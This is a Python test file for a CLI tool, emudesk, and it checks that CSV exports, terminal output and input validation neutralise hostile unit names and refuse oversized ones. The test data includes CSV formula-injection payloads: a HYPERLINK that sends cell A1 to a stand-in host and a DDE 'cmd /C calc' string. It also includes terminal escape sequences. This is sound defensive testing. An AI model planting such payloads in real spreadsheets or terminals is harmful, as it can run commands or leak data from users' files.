"""Hostile text through the commands: formulas in CSV, control characters, endless names."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from emudesk.cli import EXIT_OK, EXIT_REFUSED, EXIT_USAGE
from tests.db.test_hostile_databases import fingerprint, run

pytestmark = pytest.mark.sqlite_only


def _rename(path: Path, province: str, name: str) -> None:
    """A name stored before names were checked (an older emudesk, a file edited elsewhere)."""
    with sqlite3.connect(path) as conn:
        changed = conn.execute(
            "UPDATE unit_name SET official_name = ?, short_name = ? WHERE official_name LIKE ?",
            (name, name, f"%{province}"),
        ).rowcount
    conn.close()
    assert changed


# --- point 10 ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.example/?"&A1,"Phú Yên")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
     "＝1+1"],
)  # fmt: skip
def test_ranking_csv_neutralises_formulas(
    name: str, demo_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a unit whose stored name starts like a formula
    _rename(demo_path, "Phú Yên", name)
    # WHEN the ranking is written as CSV
    code, out, err = run(
        capsys, "--db", str(demo_path), "ranking", "--cluster", "UBDT-C4", "--year", "2024",
        "--format", "csv",
    )  # fmt: skip
    assert code == EXIT_OK, err
    rows = list(csv.reader(io.StringIO(out)))
    # THEN the cell is prefixed with an apostrophe: text to a spreadsheet, never a formula
    names = [row[2] for row in rows[1:]]
    assert "'" + name in names
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in rows for cell in row)
    # AND the totals are still plain numbers
    assert all(row[3].replace(".", "").isdigit() for row in rows[1:])


def test_the_returns_board_csv_goes_through_the_same_writer(
    demo_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _rename(demo_path, "Phú Yên", "=1+1")
    code, out, err = run(
        capsys, "--db", str(demo_path), "returns", "--cluster", "UBDT-C4", "--year", "2025",
        "--format", "csv",
    )  # fmt: skip
    assert code == EXIT_OK, err
    assert "'=1+1" in out and ",=1+1" not in out


def test_control_characters_are_escaped_on_the_terminal(
    demo_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a stored name carrying a terminal escape (retitle the window) and a bell
    _rename(demo_path, "Phú Yên", "Ban\x1b]0;owned\x07 Phú Yên\x9b2J")
    code, out, err = run(capsys, "--db", str(demo_path), "info")
    # THEN shown escaped, never sent raw
    assert code == EXIT_OK, err
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "Ban\\x1b]0;owned\\x07 Phú Yên\\x9b2J" in out


def test_control_characters_are_refused_on_input(
    demo_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import Workbook

    before = fingerprint(demo_path)
    # GIVEN a command line carrying an escape sequence
    code, _out, err = run(
        capsys, "--db", str(demo_path), "ranking", "--cluster", "UBDT\x1b[2J", "--year", "2024"
    )
    # THEN a usage refusal that shows it escaped
    assert code == EXIT_USAGE and "control characters (U+001B)" in err and "\x1b" not in err
    # AND a units workbook with a C1 control (an 8-bit terminal's CSI, legal in XML) in a name
    # is refused, nothing stored
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Mã đơn vị", "Tên đơn vị"])
    sheet.append(["NEW-1", "Sở\x9b2J mới"])
    units = tmp_path / "units.xlsx"
    book.save(units)
    code, _out, err = run(capsys, "--db", str(demo_path), "import-units", str(units),
                          "--from-year", "2025")  # fmt: skip
    assert code == EXIT_REFUSED and "U+009B" in err and "\x9b" not in err, err
    assert fingerprint(demo_path) == before


def test_a_service_refuses_a_typed_name_with_control_characters(demo_db: object) -> None:
    from emudesk.errors import ValidationError
    from emudesk.services import checks

    with pytest.raises(ValidationError, match="U\\+001B"):
        checks.name("Sở\x1b[31m đỏ", "Official name")
    with pytest.raises(ValidationError, match="U\\+202E"):
        checks.name("Sở \u202eabc", "Official name")
    assert checks.text("dòng 1\n\tdòng 2", "Note") == "dòng 1\ndòng 2"


# --- point 11 ---------------------------------------------------------------------------------


def test_scoresheet_with_a_100000_character_name_gives_up_at_once(
    demo_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a unit whose stored name is 100,000 characters long
    _rename(demo_path, "Phú Yên", ("Ban Dân tộc tỉnh Phú Yên " * 4000)[:100_000])
    before = fingerprint(demo_path)
    out_pdf = tmp_path / "s.pdf"
    # WHEN its score sheet is printed THEN a clear refusal naming the length; no file
    code, _out, err = run(
        capsys, "--db", str(demo_path), "scoresheet", "--cluster", "UBDT-C4", "--year", "2024",
        "--unit", "BDT-PY", "--out", str(out_pdf),
    )  # fmt: skip
    assert code == EXIT_REFUSED and "100000 characters long" in err and "(300)" in err, err
    assert len(err) < 500 and not out_pdf.exists()
    assert fingerprint(demo_path) == before


def test_a_command_line_argument_is_bounded(
    demo_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _out, err = run(
        capsys, "--db", str(demo_path), "scoresheet", "--cluster", "UBDT-C4", "--year", "2024",
        "--unit", "x" * 100_000, "--out", "s.pdf",
    )  # fmt: skip
    assert code == EXIT_USAGE and "100000 characters" in err and len(err) < 500


def test_fitting_a_certificate_field_gives_up_without_measuring_an_endless_text() -> None:
    from emudesk.errors import ValidationError
    from emudesk.printing.certificate import fit
    from emudesk.printing.templates import builtin_templates

    template = next(iter(builtin_templates().values()))
    field = next(f for f in template.fields if not f.static)
    with pytest.raises(ValidationError) as refused:
        fit(field, "Ban " * 50_000)
    assert len(refused.value.message) < 400


def test_the_footer_of_a_long_title_is_shortened_by_halving() -> None:
    from emudesk.printing.document import shortened

    measured: list[int] = []

    def fits(text: str) -> bool:
        measured.append(len(text))
        return len(text) <= 50

    result = shortened("x" * 100_000, fits)
    assert result == "x" * 49 + "…" and len(measured) < 40
